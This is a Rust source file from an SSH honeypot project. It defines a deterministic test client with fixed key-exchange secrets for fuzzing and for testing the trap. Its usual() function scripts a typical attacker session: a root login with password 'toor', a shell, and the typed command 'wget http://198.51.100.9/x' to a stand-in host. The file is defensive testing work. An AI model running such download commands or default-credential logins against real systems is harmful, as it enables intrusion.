//! An SSH client made of the trap's own parts, for whoever asks what stands behind the key exchange: fuzzers, and whoever holds the
//! trap against a real server.
//!
//! It has no secrets: its numbers are fixed, so that the same messages make the same bytes.

use super::{
    MSG_CHANNEL_OPEN, MSG_CHANNEL_REQUEST, MSG_KEX_INIT, MSG_KEX_REPLY, MSG_KEXINIT, MSG_NEWKEYS, MSG_SERVICE_REQUEST,
    MSG_USERAUTH_REQUEST, MSG_USERAUTH_SUCCESS,
    cipher::Keys,
    dice::Dice,
    exchange::Method,
    hostkey::HostKeys,
    kexinit,
    packet::{Incoming, Outgoing},
    wire::{Fields, message, put_string},
};
use crate::{Flow, Session};
use alloc::vec::Vec;
use curve25519_dalek::MontgomeryPoint;
use honeymesh_types::WallTime;

/// How it introduces itself.
const HELLO: &[u8] = b"SSH-2.0-test";
const METHOD: &str = "curve25519-sha256";
const SECRET: [u8; 32] = [9; 32];
/// The ciphers that it can be told to use.
pub const CIPHERS: [&str; 6] = [
    "chacha20-poly1305@openssh.com",
    "aes128-gcm@openssh.com",
    "aes256-gcm@openssh.com",
    "aes128-ctr",
    "aes192-ctr",
    "aes256-ctr",
];
/// The MACs that it can be told to use, with ciphers that need one.
pub const MACS: [&str; 5] =
    ["hmac-sha2-256", "umac-64-etm@openssh.com", "umac-128@openssh.com", "hmac-sha2-512-etm@openssh.com", "hmac-sha1"];

/// A client that has keys.
pub struct Client {
    incoming: Incoming,
    outgoing: Outgoing,
    dice: Dice,
    /// Somebody was let in.
    is_in: bool,
    /// Packets are counted anew behind each exchange, as was agreed upon in the first.
    strict: bool,
    wants: Wants,
    greeting: Vec<u8>,
    /// Names the session: the first exchange's hash.
    session: Vec<u8>,
    renewal: Option<Renewal>,
    /// What is to be said next, as packets.
    due: Vec<u8>,
}

/// A further exchange of keys, as far as it is: both offers, and the new keys, to the server and from it.
struct Renewal {
    ours: Vec<u8>,
    theirs: Vec<u8>,
    keys: Option<(Keys, Keys)>,
}

/// What it wants.
#[derive(Clone, Copy, Debug)]
pub struct Wants {
    /// One of [`CIPHERS`].
    pub cipher: &'static str,
    /// One of [`MACS`].
    pub mac: &'static str,
    /// Payloads are packed once it is let in.
    pub zlib: bool,
    /// Packets are counted anew behind the exchange.
    pub strict: bool,
    /// The server is to tell of its extensions.
    pub ext_info: bool,
    /// Kinds of host keys, the best first; no signature is looked at.
    pub host_keys: &'static str,
}

impl Client {
    /// Exchanges keys with a session that was not opened yet. `None`: the session does not answer as it must.
    #[must_use]
    pub fn meet(session: &mut dyn Session, wants: Wants, now: WallTime) -> Option<Self> {
        let (mut meeting, hello) = Meeting::begin(wants);
        let mut answer = Vec::new();
        let _ = session.open(&mut answer);
        answer.extend(said(session, &hello, now)?);
        let (mut client, rest, last) = meeting.hear(&answer)?;
        client.read(&rest)?;
        said(session, &last, now)?;
        Some(client)
    }

    /// `payload` as the next packet on the wire.
    #[must_use]
    pub fn packet(&mut self, payload: &[u8]) -> Vec<u8> {
        let mut packet = Vec::new();
        self.outgoing.send(payload, &mut self.dice, &mut packet);
        packet
    }

    /// Reads the server's answer as far as it came. Returns the payloads of whole packets, and keeps the beginning of another;
    /// `None`: they are none.
    pub fn read(&mut self, mut answer: &[u8]) -> Option<Vec<Vec<u8>>> {
        let mut payloads = Vec::new();
        while !answer.is_empty() {
            let (taken, payload) = self.incoming.take(answer);
            answer = answer.get(taken..).unwrap_or_default();
            let Some(payload) = payload.ok()? else { continue };
            if payload == [MSG_USERAUTH_SUCCESS] {
                self.is_in = true;
                self.begin_packing();
            }
            if self.renewal.is_some() {
                self.hear(&payload)?;
            }
            payloads.push(payload);
        }
        Some(payloads)
    }

    fn begin_packing(&mut self) {
        if self.is_in && self.wants.zlib {
            self.outgoing.pack();
            self.incoming.unpack();
        }
    }

    /// Begins another exchange of keys, which wants something else perhaps. Returns its packets: the offer, `between`, and the half of
    /// the secret; the rest is [`due`](Self::due) once the server has answered.
    pub fn renew(&mut self, wants: Wants, between: &[Vec<u8>]) -> Vec<u8> {
        let ours = wants.offer();
        self.wants = wants;
        let half = message(MSG_KEX_INIT, |out| put_string(out, &half()));
        let packets = [&ours].into_iter().chain(between).chain([&half]).map(|payload| self.packet(payload)).collect::<Vec<_>>();
        self.renewal = Some(Renewal { ours, theirs: Vec::new(), keys: None });
        packets.concat()
    }

    /// Whether such an exchange is under way.
    #[must_use]
    pub const fn is_renewing(&self) -> bool {
        self.renewal.is_some()
    }

    /// What must be said next to end such an exchange, as packets; asked once.
    pub fn due(&mut self) -> Vec<u8> {
        core::mem::take(&mut self.due)
    }

    fn hear(&mut self, payload: &[u8]) -> Option<()> {
        let mut renewal = self.renewal.take()?;
        match payload {
            [MSG_KEXINIT, ..] => renewal.theirs = payload.to_vec(),
            [MSG_KEX_REPLY, reply @ ..] => {
                let offers = [renewal.ours.as_slice(), &renewal.theirs];
                renewal.keys = Some(keys(reply, &self.greeting, offers, &mut self.session)?);
            }
            [MSG_NEWKEYS] => {
                let (to, from) = renewal.keys?;
                self.due = self.packet(&[MSG_NEWKEYS]);
                self.change(to, from);
                self.begin_packing();
                return Some(());
            }
            _ => {}
        }
        self.renewal = Some(renewal);
        Some(())
    }

    fn change(&mut self, to: Keys, from: Keys) {
        self.outgoing.rekey(to, self.strict);
        self.incoming.rekey(from, self.strict);
    }
}

fn half() -> [u8; 32] {
    MontgomeryPoint::mul_base_clamped(SECRET).to_bytes()
}

/// The new keys, to the server and from it, by its reply without the kind. The first exchange names the session.
fn keys(reply: &[u8], greeting: &[u8], [ours, theirs]: [&[u8]; 2], session: &mut Vec<u8>) -> Option<(Keys, Keys)> {
    let mut fields = Fields(reply);
    let (key, public) = (fields.string()?, fields.string()?);
    let secret = MontgomeryPoint(public.try_into().ok()?).mul_clamped(SECRET).to_bytes();
    let shared = super::exchange::number(Vec::new(), &secret);
    let hash = Method::X25519.exchange_hash([HELLO, greeting, ours, theirs, key, &half(), public], &shared);
    if session.is_empty() {
        session.clone_from(&hash);
    }
    let agreed = kexinit::read(ours)?.agree(&HostKeys::of(&[0; 32]))?;
    let to = Method::X25519.keys(agreed.incoming, &shared, &hash, session, *b"ACE")?;
    let from = Method::X25519.keys(agreed.outgoing, &shared, &hash, session, *b"BDF")?;
    Some((to, from))
}

/// An exchange of keys, as far as it is. The client says all of its own at once, and waits then.
pub struct Meeting {
    /// Until it has met somebody.
    client: Option<Client>,
    ours: Vec<u8>,
    heard: Vec<u8>,
}

impl Meeting {
    /// The beginning, and what is said then.
    #[must_use]
    pub fn begin(wants: Wants) -> (Self, Vec<u8>) {
        let mut client = Client {
            incoming: Incoming::default(),
            outgoing: Outgoing::default(),
            dice: Dice::new(&[3; 32], 1),
            is_in: false,
            strict: wants.strict,
            wants,
            greeting: Vec::new(),
            session: Vec::new(),
            renewal: None,
            due: Vec::new(),
        };
        let ours = wants.offer();
        let mut said = [HELLO, b"\r\n"].concat();
        said.extend(client.packet(&ours));
        said.extend(client.packet(&message(MSG_KEX_INIT, |out| put_string(out, &half()))));
        (Self { client: Some(client), ours, heard: Vec::new() }, said)
    }

    /// Takes what the server said. Once that is all that belongs to the exchange: the client, what came behind it, and what is still
    /// to be said. `None`: it is not all yet, or not what it must be.
    pub fn hear(&mut self, bytes: &[u8]) -> Option<(Client, Vec<u8>, Vec<u8>)> {
        self.heard.extend_from_slice(bytes);
        let line = self.heard.iter().position(|byte| *byte == b'\n')? + 1;
        let mut end = line;
        // Its offer, its half, its new keys.
        for _ in 0..3 {
            let length = self.heard.get(end..)?.first_chunk::<4>()?;
            end += 4 + usize::try_from(u32::from_be_bytes(*length)).ok()?;
        }
        let rest = self.heard.get(end..)?.to_vec();
        let greeting = self.heard[..line].trim_ascii_end();
        let mut client = self.client.take()?;
        let payloads = client.read(&self.heard[line..end])?;
        let [theirs, reply, _] = payloads.as_slice() else { return None };
        let last = client.packet(&[MSG_NEWKEYS]);
        client.greeting = greeting.to_vec();
        let reply = reply.strip_prefix(&[MSG_KEX_REPLY])?;
        let (to, from) = keys(reply, &client.greeting, [&self.ours, theirs], &mut client.session)?;
        client.change(to, from);
        Some((client, rest, last))
    }
}

fn said(session: &mut dyn Session, mut bytes: &[u8], now: WallTime) -> Option<Vec<u8>> {
    let mut answer = Vec::new();
    while !bytes.is_empty() {
        let step = session.receive(bytes, now, &mut answer);
        if step.flow == Flow::Close {
            return None;
        }
        bytes = bytes.get(step.taken..)?;
    }
    Some(answer)
}

impl Wants {
    /// What every server of today can do, and nothing that is optional.
    #[must_use]
    pub const fn least() -> Self {
        Self { cipher: CIPHERS[0], mac: MACS[0], zlib: false, strict: false, ext_info: false, host_keys: "ssh-ed25519" }
    }

    fn offer(self) -> Vec<u8> {
        let strict = if self.strict { ",kex-strict-c-v00@openssh.com" } else { "" };
        let methods = [METHOD, if self.ext_info { ",ext-info-c" } else { "" }, strict].concat();
        let zlib = if self.zlib { "zlib@openssh.com" } else { "none" };
        message(MSG_KEXINIT, |out| {
            out.extend_from_slice(&[1; 16]);
            for list in [&methods, self.host_keys, self.cipher, self.cipher, self.mac, self.mac, zlib, zlib, "", ""] {
                put_string(out, list.as_bytes());
            }
            out.extend_from_slice(&[0; 5]);
        })
    }
}

/// Messages of a usual client, in their order: the service, a password, a channel, a terminal, a shell, something typed.
#[must_use]
pub fn usual() -> [Vec<u8>; 6] {
    let password = message(MSG_USERAUTH_REQUEST, |out| {
        [&b"root"[..], b"ssh-connection", b"password"].iter().for_each(|field| put_string(out, field));
        out.push(0);
        put_string(out, b"toor");
    });
    let channel = message(MSG_CHANNEL_OPEN, |out| {
        put_string(out, b"session");
        [5_u32, 2_000_000, 32_768].iter().for_each(|number| out.extend_from_slice(&number.to_be_bytes()));
    });
    let request = |name: &[u8], rest: &[u8]| {
        message(MSG_CHANNEL_REQUEST, |out| {
            out.extend_from_slice(&[0; 4]);
            put_string(out, name);
            out.push(1);
            out.extend_from_slice(rest);
        })
    };
    let mut typed = alloc::vec![super::MSG_CHANNEL_DATA, 0, 0, 0, 0];
    put_string(&mut typed, b"id\rwget http://198.51.100.9/x\rexit\r");
    [
        message(MSG_SERVICE_REQUEST, |out| put_string(out, b"ssh-userauth")),
        password,
        channel,
        request(b"pty-req", b"\0\0\0\x05xterm\0\0\0\x50\0\0\0\x18\0\0\0\0\0\0\0\0\0\0\0\0"),
        request(b"shell", b""),
        typed,
    ]
}
